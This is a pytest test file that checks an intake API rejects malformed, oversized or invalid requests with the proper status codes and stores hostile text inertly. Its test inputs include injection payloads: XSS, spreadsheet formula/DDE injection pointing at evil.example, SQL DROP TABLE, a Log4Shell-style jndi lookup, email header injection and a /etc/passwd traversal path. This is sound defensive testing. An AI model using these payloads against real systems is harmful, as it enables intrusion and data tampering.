"""Every kind of bad request gets a problem document with the right status: never a 500,
never internals, never a half-written record."""

from __future__ import annotations

import json
from typing import Any

import pytest

from intake_api.app import create_app
from intake_api.dependencies import Adapters
from support.asgi_exchange import leave_mid_body


def body_with(valid_body: dict, path: str, value: Any) -> dict:
    *parents, leaf = path.split(".")
    node = valid_body
    for key in parents:
        node = node[key]
    node[leaf] = value
    return valid_body


def paths_of(problem_body: dict) -> set[str]:
    return {error["path"] for error in problem_body["errors"]}


async def test_records_stay_untouched_by_refused_requests(client, valid_body, all_records) -> None:
    await client.post("/v1/submissions", json=body_with(valid_body, "company.size", 0))
    await client.post("/v1/submissions", content=b"{", headers={"content-type": "application/json"})
    assert await all_records() == []


@pytest.mark.parametrize(
    ("path", "value"),
    [
        ("company.name", "Contoso\r\nLtd"),
        ("company.name", "Contoso\nBcc: victim@example.com"),
        ("company.contact.name", "Ada\u202eecalevoL"),  # right-to-left override
        ("company.address.line1", "1 Main St\u2066"),  # isolate
        ("company.name", "x" * 10_000),
        ("company.name", ""),
        ("company.name", "   "),
        ("company.name", None),
        ("company.name", 42),
        ("company.name", ["Contoso"]),
        ("company.name", {"text": "Contoso"}),
        ("company.size", 0),
        ("company.size", -5),
        ("company.size", 10**30),
        ("company.size", 2.5),
        ("company.size", "many"),
        ("company.size", True),  # lax integers would read it as 1
        ("company.size", False),
        ("company.size", None),
        ("company.industry", "crypto"),
        ("company.industry", None),
        ("company.address.country", "GBR"),
        ("company.address.country", "ZZ"),
        ("company.address.postalCode", "x" * 10_000),
        ("company.address.postalCode", "90210"),  # a US ZIP code in a British address
        ("company.contact.email", "ada@"),
        ("company.contact.email", "ada@example.com\r\nBcc: x@example.com"),
        ("company.contact.phone", "call me"),
        ("company.contact", None),
        ("company.address", ["1 Main St", "London"]),
        ("engagement.serviceType", "SELECT * FROM submissions"),
        ("engagement.timeline", 3),
        ("engagement.budgetRange", None),
        ("engagement.scope", "x" * 10_000),
        ("engagement.notes", "a\u0000b"),
        ("consent.accepted", False),
        ("consent.accepted", "true"),
        ("consent.privacyNoticeVersion", None),
    ],
)
async def test_bad_fields_are_named_by_json_path(client, valid_body, problem, path, value) -> None:
    response = await client.post("/v1/submissions", json=body_with(valid_body, path, value))

    body = problem(response, 422)
    assert paths_of(body) == {path}
    [error] = body["errors"]
    assert error["message"]
    assert error["in"] == "body"
    if isinstance(value, str) and len(value) > 100:
        assert value[:100] not in response.text  # the input is never echoed


async def test_missing_and_unknown_fields(client, valid_body, problem) -> None:
    del valid_body["company"]["contact"]["email"]
    del valid_body["engagement"]
    valid_body["consent"]["marketing"] = True
    valid_body["isAdmin"] = True

    body = problem(await client.post("/v1/submissions", json=valid_body), 422)

    messages = {error["path"]: error["message"] for error in body["errors"]}
    assert messages == {
        "company.contact.email": "is required",
        "engagement": "is required",
        "consent.marketing": "is not a known field",
        "isAdmin": "is not a known field",
    }


async def test_null_everywhere(client, valid_body, problem) -> None:
    def nulls(node: Any) -> Any:
        return (
            {key: nulls(value) for key, value in node.items()} if isinstance(node, dict) else None
        )

    body = problem(await client.post("/v1/submissions", json=nulls(valid_body)), 422)

    assert "company.contact.email" in paths_of(body)
    assert "engagement.serviceType" in paths_of(body)
    assert len(body["errors"]) >= 15


async def test_arrays_instead_of_objects(client, valid_body, problem) -> None:
    body = {key: [value] for key, value in valid_body.items()}
    response = await client.post("/v1/submissions", json=body)
    assert paths_of(problem(response, 422)) == {"company", "engagement", "consent"}


@pytest.mark.parametrize(
    "name",
    [
        "<script>alert('x')</script>",
        '"><img src=x onerror=alert(1)>',
        '=HYPERLINK("http://evil.example","click")',
        "+SUM(1+1)*cmd|' /C calc'!A0",
        "@SUM(A1)",
        "Robert'); DROP TABLE submissions;--",
        "Ünïcödé Gmbh 株式会社 🚀",
        "{{7*7}} ${jndi:ldap://x}",
    ],
)
async def test_hostile_text_is_accepted_and_stored_as_text(client, store, valid_body, name) -> None:
    response = await client.post(
        "/v1/submissions", json=body_with(valid_body, "company.name", name)
    )

    assert response.status_code == 201
    record = await store.get(response.json()["clientId"])
    assert record is not None and record.company.name == name


async def test_unicode_escapes_are_decoded(client, store, valid_body) -> None:
    text = json.dumps(body_with(valid_body, "company.name", "Caf\u00e9 \U0001f680"))
    assert "\\u00e9" in text and "\\ud83d\\ude80" in text  # json.dumps escapes by default

    response = await client.post(
        "/v1/submissions", content=text, headers={"content-type": "application/json"}
    )

    record = await store.get(response.json()["clientId"])
    assert record is not None and record.company.name == "Café 🚀"


async def test_a_lone_surrogate_escape_is_refused(client, valid_body, problem) -> None:
    text = json.dumps(valid_body).replace("Contoso Ltd", "Contoso \\ud800")
    response = await client.post(
        "/v1/submissions", content=text, headers={"content-type": "application/json"}
    )
    assert paths_of(problem(response, 422)) == {"company.name"}


@pytest.mark.parametrize(
    "raw",
    [
        b"{",
        b'{"company": }',
        b"not json at all",
        b"\xff\xfe{}",
        b'{"company": {"size": NaN}}',
        b'{"company": {"size": Infinity}}',
        b'{"company": {"size": 1e999}}',
        b'{"company": {"size": ' + b"9" * 20_000 + b"}}",
        b"[" * 200_000 + b"]" * 200_000,
        b'{"a":' * 100_000 + b"1" + b"}" * 100_000,
        b"[]",
        b'"a string"',
        b"null",
        b"",
    ],
    ids=lambda raw: raw[:24].decode("latin-1"),
)
async def test_malformed_json_is_400(client, problem, raw: bytes) -> None:
    for path in ("/v1/submissions", "/v1/status-lookup"):
        response = await client.post(
            path, content=raw, headers={"content-type": "application/json"}
        )
        problem(response, 400)


@pytest.mark.parametrize(
    "content_type",
    [None, "text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x"],
)
async def test_non_json_content_types_are_415(client, valid_body, problem, content_type) -> None:
    headers = {"content-type": content_type} if content_type else {}
    response = await client.post(
        "/v1/submissions", content=json.dumps(valid_body).encode(), headers=headers
    )
    problem(response, 415)


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-32"])
async def test_json_not_in_utf8_is_400_and_stores_nothing(
    client, valid_body, problem, all_records, encoding
) -> None:
    """RFC 8259: JSON between systems is UTF-8. Python's json module would guess UTF-16 or -32
    from the bytes and accept what no other client of this API could send."""
    for path in ("/v1/submissions", "/v1/status-lookup"):
        body = valid_body if path == "/v1/submissions" else {"clientId": "x", "email": "a@b.co"}
        response = await client.post(
            path,
            content=json.dumps(body).encode(encoding),
            headers={"content-type": "application/json"},
        )
        problem(response, 400)
    assert await all_records() == []


async def test_json_with_a_byte_order_mark_is_read(client, valid_body) -> None:
    response = await client.post(
        "/v1/submissions",
        content=json.dumps(valid_body).encode("utf-8-sig"),
        headers={"content-type": "application/json"},
    )
    assert response.status_code == 201


async def test_json_with_a_charset_is_fine(client, valid_body) -> None:
    response = await client.post(
        "/v1/submissions",
        content=json.dumps(valid_body).encode(),
        headers={"content-type": "application/json; charset=utf-8"},
    )
    assert response.status_code == 201


async def test_a_declared_oversized_body_is_413_unread(client, problem) -> None:
    received = 0

    async def endless():
        nonlocal received
        while True:
            received += 1
            yield b" " * 1024

    response = await client.post(
        "/v1/submissions",
        content=endless(),
        headers={"content-type": "application/json", "content-length": "1000001"},
    )

    problem(response, 413)
    assert received == 0


async def test_a_streamed_oversized_body_is_cut_off_at_the_limit(client, problem) -> None:
    sent = 0

    async def endless():
        nonlocal sent
        while True:
            sent += 64 * 1024
            yield b" " * 64 * 1024

    response = await client.post(
        "/v1/submissions", content=endless(), headers={"content-type": "application/json"}
    )

    problem(response, 413)
    assert 1_000_000 < sent <= 1_000_000 + 64 * 1024  # one chunk past the limit, no more


async def test_a_body_just_under_the_limit_is_read(client, valid_body, problem) -> None:
    valid_body["engagement"]["notes"] = "x" * 4000
    text = json.dumps(valid_body)
    padded = text[:-1] + " " * (1_000_000 - len(text)) + "}"
    assert len(padded) == 1_000_000
    response = await client.post(
        "/v1/submissions", content=padded, headers={"content-type": "application/json"}
    )
    assert response.status_code == 201

    response = await client.post(
        "/v1/submissions", content=padded + " ", headers={"content-type": "application/json"}
    )
    problem(response, 413)


async def test_a_malformed_content_length_is_400(client, problem) -> None:
    response = await client.post(
        "/v1/submissions",
        content=b"{}",
        headers={"content-type": "application/json", "content-length": "2x"},
    )
    problem(response, 400)


async def test_the_limit_comes_from_settings(serve, valid_body, problem) -> None:
    async with serve(max_body_bytes=200) as client:
        problem(await client.post("/v1/submissions", json=valid_body), 413)


@pytest.mark.parametrize("key", ["k" * 256, "clé-unicode", "tab\there", " ", "", "line\x7fdelete"])
async def test_bad_idempotency_keys_are_400(client, valid_body, problem, all_records, key) -> None:
    response = await client.post(
        "/v1/submissions", json=valid_body, headers={"idempotency-key": key.encode()}
    )
    problem(response, 400)
    assert await all_records() == []


async def test_a_255_character_key_is_fine(client, valid_body) -> None:
    response = await client.post(
        "/v1/submissions", json=valid_body, headers={"idempotency-key": "k" * 255}
    )
    assert response.status_code == 201


@pytest.mark.parametrize(
    ("method", "path", "status"),
    [
        ("GET", "/v1/submissions", 405),
        ("PUT", "/v1/submissions", 405),
        ("DELETE", "/v1/status-lookup", 405),
        ("POST", "/healthz", 405),
        ("GET", "/v1/nothing-here", 404),
        ("GET", "/admin", 404),
        ("GET", "/../../etc/passwd", 404),
        ("POST", "/v1/submissions/extra", 404),
    ],
)
async def test_unknown_routes_and_methods(client, problem, method, path, status) -> None:
    response = await client.request(method, path)
    problem(response, status)
    if status == 405:
        assert "allow" in response.headers


async def test_rate_limit_is_per_client_with_retry_after(serve, valid_body, problem) -> None:
    async with serve(rate_limit_enabled=True, rate_limit_per_minute=3) as client:
        statuses = [
            (await client.post("/v1/submissions", json=valid_body)).status_code for _ in range(3)
        ]
        limited = await client.post("/v1/submissions", json=valid_body)
        # Status lookups have their own budget.
        lookup = await client.post(
            "/v1/status-lookup", json={"clientId": "CL-0000-0000-0000", "email": "a@b.co"}
        )

    assert statuses == [201, 201, 201]
    problem(limited, 429)
    assert int(limited.headers["retry-after"]) in range(1, 21)
    assert lookup.status_code == 404


async def test_another_client_is_not_limited(settings, store, queue, valid_body, running) -> None:
    app = create_app(
        settings.model_copy(update={"rate_limit_enabled": True, "rate_limit_per_minute": 1}),
        Adapters(store=store, publisher=queue),
    )
    async with running(app, ("203.0.113.1", 1)) as first:
        assert (await first.post("/v1/submissions", json=valid_body)).status_code == 201
        assert (await first.post("/v1/submissions", json=valid_body)).status_code == 429
    async with running(app, ("203.0.113.2", 1)) as second:
        assert (await second.post("/v1/submissions", json=valid_body)).status_code == 201


async def test_a_body_longer_than_its_declared_length_is_counted(client, problem) -> None:
    # The ASGI transport, like uvicorn's h11 for a chunked body, does not hold a body to the
    # Content-Length it declares: the limit counts what arrives.
    async def longer():
        for _ in range(20):
            yield b" " * 64 * 1024

    response = await client.post(
        "/v1/submissions",
        content=longer(),
        headers={"content-type": "application/json", "content-length": "2"},
    )
    problem(response, 413)


async def test_a_client_that_leaves_mid_body_gets_no_answer(settings, store, queue, running):
    app = create_app(settings, Adapters(store=store, publisher=queue))
    async with running(app) as client:
        headers = {"content-type": "application/json", "content-length": "400"}
        assert await leave_mid_body(app, "POST", "/v1/submissions", headers) == []
        metrics = (await client.get("/metrics")).text
    counted = [line for line in metrics.splitlines() if line.startswith("http_requests_total")]
    assert [line for line in counted if 'route="/v1/submissions"' in line] == [
        'http_requests_total{method="POST",route="/v1/submissions",status="499"} 1.0'
    ]
